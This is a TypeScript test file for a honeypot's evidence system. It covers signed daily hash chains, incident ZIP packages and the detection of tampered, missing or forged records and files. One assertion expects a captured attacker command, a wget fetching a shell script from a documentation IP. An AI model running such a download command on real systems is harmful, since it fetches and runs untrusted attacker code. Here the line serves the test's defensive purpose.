/** The chain of days and the packages of evidence, on the real engine; hashes are computed again without it. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { BlobReader, BlobWriter, TextReader, Uint8ArrayWriter, ZipReader, ZipWriter } from '@zip.js/zip.js';
import { releaseWaiting } from '../loader/waiting-records.ts';
import { Authority } from '../pki/authority.ts';
import { erase } from '../retention/erase.ts';
import { now_ms, pinned_session, World } from '../retention/testing/world.ts';
import { DayChain, stretchOf } from './day-chain.ts';
import { writePackage } from './incident-package.ts';
import { cutStretch, digestStretches, gatherStretches } from './record-digests.ts';
import { verifyDays } from './verify-days.ts';
import { verifyPackage } from './verify-package.ts';

const hex = (text: string | Buffer): string => createHash('sha256').update(text).digest('hex');

describe('evidence', { timeout: 240_000 }, () => {
  const root = mkdtempSync(join(tmpdir(), 'apiary-evidence-'));
  const log: string[] = [];
  let world: World;
  let authority: Authority;
  let chain: DayChain;
  const released: string[] = [];
  let waits_before_us = 0n;
  let number = 0;

  before(async () => {
    world = await World.open();
    authority = await Authority.open(join(root, 'pki'));
    chain = new DayChain({
      store: world.store,
      authority,
      directory: root,
      isWaiting: (before_us) => waits_before_us !== 0n && before_us >= waits_before_us,
      releasedTables: () => released,
      log: (message) => log.push(message),
    });
    // Of a type that has no submodule yet.
    await world.store.insertRows('landing_waiting', [
      {
        ...world.row(Date.UTC(2026, 5, 2, 5), { eventid: 'a' }),
        sensor_id: 7,
        stream: 'json',
        segment_id: 900,
      },
      {
        ...world.row(Date.UTC(2026, 5, 2, 6), { eventid: 'b' }),
        sensor_id: 7,
        stream: 'json',
        segment_id: 900,
      },
    ]);
    await (await world.analyse()).rebuild();
    const [row] = await world.store.query<{ number: number }>(
      `SELECT number FROM incident FINAL WHERE is_gone = 0 AND incident_id IN (SELECT incident_id FROM incident_attack FINAL WHERE attack_id IN
       (SELECT tupleElement(max(assignment), 2) FROM attack_event WHERE event_id IN (SELECT event_id FROM event WHERE session = '${pinned_session}') GROUP BY event_id))`,
    );
    number = row!.number;
  });
  after(async () => {
    await world.close();
    rmSync(root, { recursive: true });
  });
  const verify = (since?: string) =>
    verifyDays({ chain, store: world.store, state: world.state, authority, since });

  test('a day is signed when it is over and nothing of it waits, each on the one before', async () => {
    const last_day_us = BigInt(Math.floor(now_ms / 86_400_000) * 86_400_000) * 1000n;
    waits_before_us = last_day_us;
    await chain.seal(now_ms);
    assert.equal(chain.days().at(-1), '2026-06-08', 'records of the ninth still wait for the engine');
    waits_before_us = 0n;
    assert.deepEqual(await chain.seal(now_ms), ['2026-06-09']);
    assert.deepEqual(await chain.seal(now_ms), []);
    const days = chain.days();
    assert.equal(days[0], '2026-03-02');
    assert.equal(days.length, 100);
    for (const [index, day] of days.entries())
      assert.equal(
        chain.read(day).document.previous,
        index === 0 ? null : hex(chain.read(days[index - 1]!).bytes),
      );
    const records = days.reduce((sum, day) => sum + chain.read(day).document.records, 0);
    const [there] = await world.store.query<{ records: string }>(
      `SELECT (SELECT count() FROM cowrie_json WHERE toDate(collect_ts) < '2026-06-10') + (SELECT count() FROM cowrie_ttylogs) + 2 AS records`,
    );
    assert.equal(records, Number(there!.records));
  });

  test('what is signed can be computed again without the engine', async () => {
    const { document } = chain.read('2026-04-01');
    const rows = await world.store.query<
      Record<'sensor_id' | 'generation' | 'place' | 'version' | 'us' | 'source' | 'raw', string>
    >(
      "SELECT sensor_id, generation, place, version, toString(toUnixTimestamp64Micro(collect_ts)) AS us, source, raw FROM cowrie_json WHERE toDate(collect_ts) = '2026-04-01'",
    );
    const hashes = rows.map(({ sensor_id, generation, place, version, us, source, raw }) =>
      hex([sensor_id, generation, place, version, us, source.length, source, raw].join('|')),
    );
    assert.equal(rows.length, 30);
    assert.deepEqual(
      document.leaves.map(({ table, records, sha256 }) => ({ table, records, sha256 })),
      [{ table: 'cowrie_json', records: 30, sha256: hex(hashes.sort().join('')) }],
    );
  });

  test('a day with more records than are gathered at once is cut at minutes, and leaves nothing out', async () => {
    const day = stretchOf('2026-04-01');
    const parts = await cutStretch(world.store, 'cowrie_json', day, [], 12);
    assert.deepEqual(
      parts.map(({ records }) => records),
      [12, 12, 6],
    );
    assert.deepEqual([parts[0]!.from_us, parts.at(-1)!.to_us], [day.from_us, day.to_us]);
    for (const [index, part] of parts.slice(1).entries()) assert.equal(part.from_us, parts[index]!.to_us);
    assert.deepEqual(
      gatherStretches(parts, 24).map((some) => some.length),
      [2, 1],
    );
    assert.deepEqual(
      gatherStretches([...parts, parts[0]!], 100).map((some) => some.length),
      [3, 1],
      'one that lies over those before is asked for alone',
    );
    const together = await digestStretches(world.store, 'cowrie_json', parts, []);
    const alone = [];
    for (const part of parts) alone.push(...(await digestStretches(world.store, 'cowrie_json', [part], [])));
    assert.deepEqual(together, alone);
    const rows = await world.store.query<Record<'generation' | 'place' | 'us' | 'raw', string>>(
      `SELECT generation, place, toString(toUnixTimestamp64Micro(collect_ts)) AS us, raw FROM cowrie_json
       WHERE toUnixTimestamp64Micro(collect_ts) >= ${parts[1]!.from_us} AND toUnixTimestamp64Micro(collect_ts) < ${parts[1]!.to_us}`,
    );
    const hashes = rows.map(({ generation, place, us, raw }) =>
      hex([1, generation, place, 0, us, 1, 'f', raw].join('|')),
    );
    assert.equal(together[1]!.sha256, hex(hashes.sort().join('')));
  });

  test('openssl finds the signature of a day right, and of a changed one wrong', () => {
    const { bytes, signature } = chain.read('2026-04-01');
    const put = (name: string, content: string | Buffer): string => {
      writeFileSync(join(root, name), content);
      return join(root, name);
    };
    const chain_pem = put('chain.pem', signature.chain);
    const key = put('key.pem', execFileSync('openssl', ['x509', '-in', chain_pem, '-pubkey', '-noout']));
    const sig = put('day.sig', Buffer.from(signature.signature, 'base64'));
    const check = (path: string): string =>
      execFileSync('openssl', ['dgst', '-sha256', '-verify', key, '-signature', sig, path], {
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
      });
    assert.match(check(put('day.json', bytes)), /Verified OK/);
    assert.throws(() => check(put('other.json', Buffer.concat([bytes, Buffer.from(' ')]))));
  });

  test('an incident becomes a package that proves itself, and tells what was changed in it', async () => {
    const path = join(root, 'incident.zip');
    const { store, state } = world;
    const options = { store, state, authority, chain, version: '0.1.0' };
    const manifest = await writePackage(options, number, 'somebody', path, now_ms);
    await assert.rejects(writePackage(options, number, 'somebody', path, now_ms), /is there already/);
    await assert.rejects(
      writePackage(options, 9999, 'somebody', join(root, 'no.zip'), now_ms),
      /no incident 9999/,
    );
    await assert.rejects(
      writePackage(options, number, 'somebody', join(root, 'no/where.zip'), now_ms),
      /cannot be written/,
    );
    assert.equal(manifest.records_missing, 0);
    const good = await verifyPackage(path, authority.fingerprint());
    assert.deepEqual(good.wrong, []);
    const files = new Map<string, Buffer>();
    for (const entry of await new ZipReader(new BlobReader(new Blob([readFileSync(path)]))).getEntries())
      if (!entry.directory)
        files.set(entry.filename, Buffer.from(await entry.getData(new Uint8ArrayWriter())));
    const lines = (name: string): Record<string, string>[] =>
      files
        .get(name)!
        .toString('utf8')
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as Record<string, string>);
    const records = lines('records.jsonl');
    assert.equal(records.length, manifest.records);
    for (const { raw_base64, raw_sha256 } of records)
      assert.equal(hex(Buffer.from(raw_base64!, 'base64')), raw_sha256);
    const commands = records
      .map(
        ({ raw_base64 }) =>
          JSON.parse(Buffer.from(raw_base64!, 'base64').toString('utf8')) as { input?: string },
      )
      .map(({ input }) => input)
      .filter((input) => input !== undefined);
    assert.deepEqual(commands, ['wget http://203.0.113.9/x.sh']);
    assert.ok(lines('events.jsonl').some(({ session }) => session === pinned_session));
    assert.match(files.get('sensors.json')!.toString('utf8'), /"name": "ssh"/);
    const day = records.find(({ source }) => source !== undefined)!.collect_ts!.slice(0, 10);
    assert.ok(files.has(`days/${day}.json`) && files.has(`days/${day}.signature.json`));

    const rewrite = async (name: string, change: (files: Map<string, string>) => void): Promise<string> => {
      const texts = new Map([...files].map(([file, bytes]) => [file, bytes.toString('utf8')]));
      change(texts);
      const zip = new ZipWriter(new BlobWriter());
      for (const [file, text] of texts) await zip.add(file, new TextReader(text));
      writeFileSync(join(root, name), Buffer.from(await (await zip.close()).arrayBuffer()));
      return join(root, name);
    };
    const changed = async (change: (files: Map<string, string>) => void): Promise<string[]> =>
      (await verifyPackage(await rewrite('changed.zip', change), authority.fingerprint())).wrong;
    assert.deepEqual(await changed(() => undefined), []);
    assert.deepEqual(
      await changed((all) =>
        all.set('records.jsonl', all.get('records.jsonl')!.replace('"version":0', '"version":1')),
      ),
      ['records.jsonl is not what was signed'],
    );
    assert.deepEqual(await changed((all) => all.delete('events.jsonl')), ['events.jsonl is missing']);
    assert.deepEqual(await changed((all) => all.set('note.txt', 'x')), ['note.txt was not signed']);
    assert.deepEqual(
      await changed((all) =>
        all.set('manifest.json', all.get('manifest.json')!.replace('somebody', 'nobody')),
      ),
      ['the signature is wrong: it does not belong to these bytes'],
    );
    // Of two files of one name an unpacker may show the one that was not signed.
    const twice = await rewrite('twice.zip', (all) => all.set('sensors.jsoX', '{}'));
    writeFileSync(
      twice,
      Buffer.from(
        readFileSync(twice).toString('latin1').replaceAll('sensors.jsoX', 'sensors.json'),
        'latin1',
      ),
    );
    assert.ok(
      (await verifyPackage(twice, authority.fingerprint())).wrong.includes('sensors.json is in it 2 times'),
    );
    assert.deepEqual(await changed((all) => all.set('more/', 'x')), ['more/ was not signed']);
    // What is no manifest or signature at all is refused in words.
    for (const [name, text] of [
      ['manifest.json', '{}'],
      ['manifest.json', '{"files":[null]}'],
      ['manifest.json', 'null'],
      ['manifest.json', '{'],
      ['manifest.signature.json', 'null'],
      ['manifest.signature.json', '{"chain":""}'],
    ] as const)
      await assert.rejects(
        changed((all) => all.set(name, text)),
        { code: 'input_invalid', message: new RegExp(`^${name} in .*changed\\.zip is n`) },
        `${name}: ${text}`,
      );
    const torn = readFileSync(path);
    const at = torn.indexOf('manifest.json') + 'manifest.json'.length + 60;
    torn[at] = torn[at]! ^ 0xff;
    writeFileSync(join(root, 'torn.zip'), torn);
    await assert.rejects(verifyPackage(join(root, 'torn.zip')), {
      code: 'input_invalid',
      message: /manifest\.json in .*torn\.zip (cannot be unpacked|is not JSON)/,
    });
    const other = await Authority.open(join(root, 'other'));
    assert.match(
      (await verifyPackage(path, other.fingerprint())).wrong.join(),
      /signed by another authority/,
    );
    await assert.rejects(verifyPackage(join(root, 'chain.pem')), /cannot be read as a ZIP file/);
  });

  test('a document that is changed, gone or of another authority is told', async () => {
    const days = join(root, 'days');
    const wrong = async (): Promise<string> =>
      (await verify('2026-06-01'))
        .filter(({ day }) => day >= '2026-05-01')
        .flatMap(({ day, differences }) => differences.map((text) => `${day} ${text}`))
        .join('\n');
    assert.equal(await wrong(), '');
    const path = join(days, '2026-05-03.json');
    const before = readFileSync(path, 'utf8');
    writeFileSync(path, before.replace('"records":30', '"records":29'));
    assert.match(
      await wrong(),
      /^2026-05-03 the signature is wrong: it does not belong to these bytes\n.*\n?2026-05-04 it does not follow on the document of the day before$/s,
    );
    writeFileSync(path, before);
    renameSync(path, `${path}.away`);
    assert.match(
      await wrong(),
      /2026-05-04 it does not follow .*\n2026-05-04 the document of 2026-05-03 is missing/,
    );
    renameSync(`${path}.away`, path);
    const foreign = await Authority.open(join(root, 'foreign'));
    const signature_path = join(days, '2026-05-03.signature.json');
    const signature = readFileSync(signature_path);
    writeFileSync(signature_path, JSON.stringify(await foreign.sign(Buffer.from(before))));
    assert.match(await wrong(), /^2026-05-03 it was signed by another authority, sha256:[0-9a-f]{64}$/);
    writeFileSync(signature_path, signature);
  });

  test('records that waited stay as they were signed when their submodule has come', async () => {
    const { store } = world;
    const of = async () => (await verify('2026-06-02')).find(({ day }) => day === '2026-06-02')!;
    assert.equal(chain.read('2026-06-02').document.records, 32);
    const note = ({ table }: { table: string }): number => released.push(table);
    const streams = new Map([['cowrie', new Set(['json'])]]);
    const log = (): void => undefined;
    assert.equal(await releaseWaiting({ store, typeOf: () => 'cowrie', streams, note, log }), 2);
    assert.equal(await world.count('record_waiting'), 0);
    assert.equal(await world.count('cowrie_json', 'sensor_id = 7'), 2);
    assert.deepEqual(await of(), { day: '2026-06-02', state: 'same', records: 32, differences: [] });
    assert.ok(chain.days().length > 0 && (await verify()).every(({ state }) => state === 'same'));

    const where = 'sensor_id = 7 AND raw LIKE \'%"b"%\'';
    await store.command(
      `ALTER TABLE cowrie_json UPDATE raw = 'forged' WHERE ${where} SETTINGS mutations_sync = 1`,
    );
    assert.match(
      (await of()).differences.join(),
      /the 2 records of sensor 7 in record_waiting are not those/,
    );
    await store.command("ALTER TABLE cowrie_json DELETE WHERE raw = 'forged' SETTINGS mutations_sync = 1");
    assert.match((await of()).differences.join(), /1 of 2 records of sensor 7 in record_waiting are gone/);
  });

  test('records that are gone, changed or added are told, and what accounts for it', async () => {
    assert.ok((await verify('2026-06-03')).every(({ state }) => state === 'same'));
    const { store, state } = world;
    const of = async (day: string) => (await verify(day)).find((finding) => finding.day === day)!;

    await store.command(
      "ALTER TABLE cowrie_json DELETE WHERE toDate(collect_ts) = '2026-06-05' AND source = 'f' AND place = (SELECT min(place) FROM cowrie_json WHERE toDate(collect_ts) = '2026-06-05') SETTINGS mutations_sync = 1",
    );
    assert.deepEqual(await of('2026-06-05'), {
      day: '2026-06-05',
      state: 'wrong',
      records: 30,
      differences: ['1 of 30 records of sensor 1 in cowrie_json are gone: nothing accounts for it'],
    });

    await store.command(
      "ALTER TABLE cowrie_json UPDATE raw = replaceOne(raw, 'root', 'toor') WHERE toDate(collect_ts) = '2026-06-06' SETTINGS mutations_sync = 1",
    );
    assert.match((await of('2026-06-06')).differences.join(), /30 records .* are not those that were signed/);

    await world.land('json', [
      world.row(Date.UTC(2026, 5, 7, 23), { eventid: 'cowrie.session.connect', session: 'late' }),
    ]);
    assert.match(
      (await of('2026-06-07')).differences.join(),
      /are not those that were signed \(31 are there\)/,
    );

    await store.command(
      "INSERT INTO cowrie_json SELECT * REPLACE (toUInt32(5) AS sensor_id) FROM cowrie_json WHERE toDate(collect_ts) = '2026-06-08' LIMIT 1",
    );
    const added = await of('2026-06-08');
    assert.equal(added.state, 'wrong', 'a sensor that had nothing on that day has something now');
    assert.match(added.differences.join(), /1 records of sensor 5 .* were not there/);

    await world.land('ttylogs', [world.raw(Date.UTC(2026, 5, 9, 3), { path: '/x' })]);
    assert.deepEqual(
      (await of('2026-06-09')).differences,
      ['1 records in cowrie_ttylogs were not there when the day was signed'],
      'a table that had nothing on that day has something now',
    );

    const erasure = { before_ms: Date.UTC(2026, 2, 5) };
    const { artifacts, recordings } = world;
    await erase({ store, state, artifacts, recordings }, erasure);
    state.change('somebody', 'erase', 'erasure', { sensor_id: 2 }, () => undefined);
    assert.equal(
      (await of('2026-03-03')).state,
      'wrong',
      'what was erased of another sensor explains nothing',
    );
    state.run(
      "INSERT INTO change_log (at_ms, actor, verb, subject, details) VALUES (?, 'somebody', 'erase', 'erasure', '{}')",
      Date.UTC(2026, 0, 1),
    );
    assert.equal((await of('2026-03-03')).state, 'wrong', 'nor what was erased before the day was signed');
    state.change('somebody', 'erase', 'erasure', { before: '2026-03-05' }, () => undefined);
    const erased = await of('2026-03-03');
    assert.equal(erased.state, 'explained');
    assert.match(
      erased.differences.join(),
      /30 of 30 records of sensor 1 in cowrie_json are gone: an erasure was logged/,
    );
  });
});
